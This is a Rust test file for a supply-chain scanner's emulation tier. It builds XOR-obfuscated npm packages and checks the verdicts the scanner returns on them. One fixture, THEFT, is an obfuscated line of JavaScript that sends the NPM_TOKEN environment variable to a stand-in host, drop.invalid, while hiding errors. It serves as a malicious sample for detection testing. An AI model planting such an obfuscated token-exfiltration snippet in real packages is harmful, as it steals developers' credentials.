//! `stockade scan` and its last tier: what running code adds, when it is run, and what is said where it is not.

use serde_json::Value;

use crate::machine::{Machine, gaps};

/// A package that has all its names from a decoder, under a key that nothing in its own text gives; `program`
/// spells such a name as `@name@`.
fn sealed(program: &str) -> Machine {
    let name = |text: &str| {
        let numbers: Vec<String> = text.bytes().map(|byte| (byte ^ 20).to_string()).collect();
        format!("d([{}])", numbers.join(","))
    };
    let parts = program.split('@').enumerate();
    let spelled: String =
        parts.map(|(at, part)| if at % 2 == 1 { name(part) } else { part.to_owned() }).collect();
    let text = format!(
        "const key = Number(process.versions.node.split('.')[0]);\n\
         const d = (list) => list.map((code) => String.fromCharCode(code ^ key)).join('');\n\
         {spelled}\n"
    );
    let manifest = br#"{"name": "sealed", "version": "1.0.0", "main": "index.js"}"#;
    Machine::with(&[("sealed/package.json", manifest), ("sealed/index.js", text.as_bytes())])
}

const THEFT: &str = "const m = globalThis[@process@]; const h = m[@mainModule@][@require@](@https@);\n\
    const e = m[@env@]; h[@get@](@https://drop.invalid/?@ + e[@NPM_TOKEN@])[@on@](@error@, () => {});";

const HONEST: &str = "const m = globalThis[@Math@]; const o = globalThis[@Object@];\n\
    module[@exports@] = (a) => m[@max@](m[@min@](a, 9), o[@keys@]({})[@length@]);";

fn verdict(result: &Value) -> &str {
    result["releases"][0]["verdict"].as_str().unwrap()
}

#[test]
fn what_cannot_be_read_is_run_and_proven() {
    let (ended, result) = sealed(THEFT).scan_json(&["sealed"]);
    ended.with_status(2);
    assert_eq!(verdict(&result), "malicious");
    let chain = &result["releases"][0]["chains"][0];
    assert_eq!(chain["proof"], true);
    let story = chain["story"].as_str().unwrap();
    assert!(story.contains("`index.js:4` sends the npm token") && story.contains("drop.invalid"), "{story}");
}

#[test]
fn what_cannot_be_read_and_does_nothing_bad_is_clean() {
    let (ended, result) = sealed(HONEST).scan_json(&["sealed"]);
    ended.with_status(0);
    assert_eq!(verdict(&result), "clean");
}

#[test]
fn what_cannot_be_read_and_is_not_run_is_a_gap() {
    let (ended, result) = sealed(HONEST).scan_json(&["sealed", "--no-emulation"]);
    ended.with_status(3);
    assert_eq!(verdict(&result), "unknown");
    let told = gaps(&result);
    assert!(
        told.iter().any(|gap| gap.starts_with("emulation: ") && gap.contains("--no-emulation")),
        "{told:?}"
    );
}

#[test]
fn a_judgement_without_emulation_is_not_remembered_for_one_with_it() {
    let machine = sealed(HONEST);
    assert_eq!(verdict(&machine.scan_json(&["sealed", "--no-emulation"]).1), "unknown");
    assert_eq!(verdict(&machine.scan_json(&["sealed"]).1), "clean");
}

#[test]
fn a_deep_scan_of_honest_code_stays_clean() {
    let machine = Machine::with(&[
        (
            "pad/package.json",
            br#"{"name": "pad", "version": "1.0.0", "scripts": {"postinstall": "node hello.js"}}"#,
        ),
        ("pad/hello.js", b"console.log('thanks, ' + require('os').userInfo().username);\n"),
        ("pad/index.js", b"exports.pad = (text) => text.padStart(8);\n"),
    ]);
    let (ended, result) = machine.scan_json(&["pad", "--deep"]);
    ended.with_status(0);
    assert_eq!(verdict(&result), "clean");
}
